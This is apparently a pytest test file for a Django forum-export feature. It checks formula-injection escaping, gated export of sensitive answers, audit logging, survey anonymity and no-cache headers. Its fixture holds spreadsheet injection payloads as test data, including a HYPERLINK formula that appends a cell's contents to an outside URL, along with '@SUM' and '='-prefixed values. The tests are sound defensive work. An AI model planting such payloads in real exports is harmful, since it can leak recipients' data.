"""Tables that leave us: no formula, nothing sensitive unless asked for by who may, and a note that it happened."""

import csv
import io
from typing import Any

import pytest
from django.contrib.admin.models import LogEntry
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from forums.admin import exports
from forums.models import (
    Answer,
    Certificate,
    CheckIn,
    Forum,
    Question,
    Registration,
    SurveyAnswer,
    SurveyResponse,
)
from forums.survey import FEWEST
from tests import people
from tests.factories import make_open_forum, make_registration
from tests.forums.hosting import host, plain, where

pytestmark = pytest.mark.django_db

NEEDS = "No shellfish"
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.fixture
def forum() -> Forum:
    """Two registered, one waiting; a sensitive and a harmless question; hostile names."""
    now = timezone.now()
    made = make_open_forum(now=now, capacity=2)
    lunch = Question.objects.create(forum=made, label="Dietary needs", is_sensitive=True)
    hope = Question.objects.create(forum=made, label="What brings you?")
    first = make_registration(made, people.person("one", name=FORMULA), now=now, organization_name="+1 District")
    make_registration(made, people.person("two"), now=now)
    make_registration(made, people.person("three"), now=now)
    Answer.objects.create(registration=first, question=lunch, value=NEEDS)
    Answer.objects.create(registration=first, question=hope, value="\t@SUM(1)\nColleagues")
    return made


def export(who: Any, forum: Forum, **typed: str) -> Any:
    data = {"what": "registrants", "kind": "csv", **typed}
    return people.browser(who).post(where(forum, "export"), data)


def table(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    if "csv" in response["Content-Type"]:
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    page = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)
    return [[str(cell.value or "") for cell in row] for row in page.iter_rows()]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_starts_a_formula(forum: Forum, kind: str) -> None:
    rows = table(export(people.staff(), forum, kind=kind))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_registrants_stand_in_a_row_each_with_what_they_answered(forum: Forum, kind: str) -> None:
    header, *rows = table(export(people.staff(), forum, kind=kind))
    assert len(rows) == 3
    assert rows[0][header.index("Seat")] == "1"
    assert rows[0][header.index("E-mail address")] == "one@example.org"
    assert rows[0][header.index("What brings you?")].endswith("@SUM(1); Colleagues")
    assert rows[2][header.index("Registration")] == "On the waitlist"


@pytest.mark.parametrize(
    ("ticked", "by", "has_them"), [("", "host", False), ("on", "host", True), ("on", "plain", False)]
)
def test_needs_are_in_a_table_only_when_who_may_see_them_asks(
    forum: Forum, ticked: str, by: str, has_them: bool
) -> None:
    who = host() if by == "host" else plain()
    response = export(who, forum, **({"with_sensitive": ticked} if ticked else {}))
    text = response.content.decode()
    assert (NEEDS in text, "Dietary needs" in text) == (has_them, has_them)
    assert ("dietary" in LogEntry.objects.latest("pk").change_message) is has_them


def test_every_export_leaves_a_note_in_the_forum_s_history(forum: Forum) -> None:
    export(people.staff(), forum)
    entry = LogEntry.objects.latest("pk")
    assert (entry.object_id, entry.user) == (str(forum.pk), people.staff())
    assert entry.change_message == "Exported registrants: 3 rows (CSV)."
    assert "Exported registrants" in people.browser(people.staff()).get(where(forum, "history")).content.decode()


def test_asking_exports_nothing_and_the_box_is_for_hosts(forum: Forum) -> None:
    for who, offered in ((host(), True), (plain(), False)):
        page = people.browser(who).get(where(forum, "export")).content.decode()
        assert ("with_sensitive" in page) is offered
    assert not LogEntry.objects.exists()


@pytest.mark.parametrize("across", [True, False])
def test_what_is_ticked_or_what_the_filters_leave_is_exported(forum: Forum, across: bool) -> None:
    rows = Registration.objects.filter(forum=forum)
    other = make_open_forum("other", now=timezone.now())
    make_registration(other, people.person("elsewhere"), now=timezone.now())
    address = f"{reverse('admin:forums_registration_changelist')}?forum={forum.pk}"
    data: dict[str, Any] = {"action": "export", "_selected_action": [str(rows[0].pk)]}
    data |= {"select_across": "1"} if across else {}
    browser = people.browser(host())
    asked = browser.post(address, data)
    assert "with_sensitive" in asked.content.decode()
    found = table(browser.post(address, {**data, "go": "1", "kind": "xlsx"}))
    assert len(found) == 1 + (3 if across else 1)
    assert LogEntry.objects.latest("pk").object_id == str(forum.pk)


def test_who_came_is_a_table_too(forum: Forum) -> None:
    row = Registration.objects.get(forum=forum, seat_number=2)
    now = timezone.now()
    CheckIn.objects.create(registration=row, entry="a" * 32, at=now, received_at=now, way="scanned", door="=North")
    Certificate.objects.create(registration=row, number="KC-1", name="Two", hours="3.5", issued_at=now)
    header, *rows = table(export(people.staff(), forum, what="attendance"))
    by_seat = {found[header.index("Seat")]: found for found in rows}
    assert (by_seat["1"][header.index("Came")], by_seat["2"][header.index("Came")]) == ("no", "yes")
    assert by_seat["2"][header.index("Certificate")] == "KC-1"
    assert by_seat["2"][header.index("Hours")] == "3.50"
    assert by_seat["2"][header.index("Door")] == "'=North"


def test_survey_answers_stand_without_names(forum: Forum) -> None:
    useful = Question.objects.create(forum=forum, label="How useful?", stage="survey", kind="scale")
    secret = Question.objects.create(forum=forum, label="Access", stage="survey", is_sensitive=True)
    for number in range(FEWEST):
        assert table(export(host(), forum, what="survey")) == [["How useful?"]], "of few one could guess whose they are"
        response = SurveyResponse.objects.create(forum=forum, given_on=timezone.now().date())
        SurveyAnswer.objects.create(response=response, question=useful, value="5")
        SurveyAnswer.objects.create(response=response, question=secret, value=f"{NEEDS} {number}")
    assert table(export(host(), forum, what="survey")) == [["How useful?"], *[["5"]] * FEWEST]
    header, first, *_ = table(export(host(), forum, what="survey", with_sensitive="on"))
    assert (header, first) == (["How useful?", "Access"], ["5", f"{NEEDS} 0"])


def test_a_table_takes_as_many_statements_for_many_as_for_few(forum: Forum) -> None:
    rows = Registration.objects.filter(forum=forum)
    with CaptureQueriesContext(connection) as few:
        exports.registrants(rows, with_sensitive=True)
    for number in range(6):
        make_registration(forum, people.person(f"more{number}"), now=timezone.now())
    with CaptureQueriesContext(connection) as many:
        exports.registrants(rows.all(), with_sensitive=True)
    assert len(few) == len(many)


def test_a_file_is_kept_by_no_cache(forum: Forum) -> None:
    assert "no-store" in export(people.staff(), forum)["Cache-Control"]
